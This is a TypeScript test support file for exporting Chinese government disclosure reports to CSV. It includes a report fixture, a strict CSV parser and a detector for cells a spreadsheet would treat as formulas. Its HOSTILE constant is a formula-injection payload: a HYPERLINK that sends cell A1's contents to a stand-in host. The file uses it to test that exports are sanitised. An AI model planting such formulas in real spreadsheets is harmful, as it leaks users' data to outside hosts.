import { EDITIONS } from '../../src/editions/index.js';
import type { ExportContext } from '../../src/export/index.js';
import { importTables, square } from '../../src/import/index.js';
import type { SourceDocument } from '../../src/import/index.js';
import { EN } from '../../src/locales/en.js';
import { EXPORT_WORDS } from '../../src/locales/export.js';
import { ZH_CN } from '../../src/locales/zh-CN.js';
import type { FormId } from '../../src/model/edition.js';
import type { Report } from '../../src/model/report.js';
import { changed, PINGTAN_2020, PINGTAN_2022 } from '../support/reports.js';

export const ZH: ExportContext = { editions: EDITIONS, words: ZH_CN, fileWords: EXPORT_WORDS['zh-CN'] };
export const ENGLISH: ExportContext = { editions: EDITIONS, words: EN, fileWords: EXPORT_WORDS.en };

/** What runs where a spreadsheet takes a text for a formula. */
export const HOSTILE = '=HYPERLINK("http://example.com/?"&A1,"点击")';

/** A report with everything files have to keep apart: 0, 无, blank, a cell that is missing, odd figures, lines of its own. */
export const MIXED: Report = {
  ...PINGTAN_2020,
  title: '平潭综合实验区2020年政府信息公开工作年度报告',
  published: '2021-01-29',
  source: 'https://www.example.gov.cn/2020?a=1&b=2',
  disclosure: {
    ...changed(PINGTAN_2020.disclosure!, {
      'regulations.made': 0,
      'regulations.published': '无',
      'regulations.publicTotal': null,
      'normativeDocuments.made': undefined,
      'normativeDocuments.published': '0.00',
      'normativeDocuments.publicTotal': '1,234',
      'licensing.change': '+19',
      'fees.change': -15.5,
      'procurement.projects': '22（其中修订16件）',
    }),
    notes: ['注：集中采购含上年度结转项目'],
    extra: [{ axis: 'row', label: '其他主动公开文件', after: 'normativeDocuments', figures: [3, null, '/'] }],
  },
};

export const PLAIN = PINGTAN_2022;

/** The tables a document is read as, by the project's own reader. */
export function tablesIn(document: SourceDocument): Pick<Report, FormId> {
  return importTables(square(document, EDITIONS), EDITIONS).tables;
}

export function tablesOf({ disclosure, requests, reviewLitigation }: Report): Pick<Report, FormId> {
  return { ...(disclosure ? { disclosure } : {}), ...(requests ? { requests } : {}), ...(reviewLitigation ? { reviewLitigation } : {}) };
}

/** Reads CSV by RFC 4180, byte order mark included, with no mercy for what does not keep to it. */
export function parseCsv(csv: string): string[][] {
  if (!csv.startsWith('\ufeff')) throw new Error('no byte order mark');
  const lines: string[][] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  field.lastIndex = 1;
  let line: string[] = [];
  while (field.lastIndex < csv.length) {
    const at = field.lastIndex;
    const match = field.exec(csv);
    if (!match) throw new Error(`no CSV at ${at}: ${JSON.stringify(csv.slice(at, at + 40))}`);
    line.push(match[1] === undefined ? (match[2] ?? '') : match[1].replace(/""/g, '"'));
    if (match[3] === ',') continue;
    lines.push(line);
    line = [];
  }
  return lines;
}

/** Whether a spreadsheet might take a text for a formula: it begins like one, and is neither dashes alone nor a signed numeral with a word behind it. */
export function mayRun(text: string): boolean {
  const narrow = text.normalize('NFKC').replace(/[\s\u200b\ufeff]+/g, '');
  return /^[\t\r\n]/.test(text) || (/^[=+\-@]/.test(narrow) && !/^(?:-+|[-+]\d[\d.,]*[\u4e00-\u9fff]{0,2}(?:\([\d\u4e00-\u9fff]*\))?)$/.test(narrow));
}
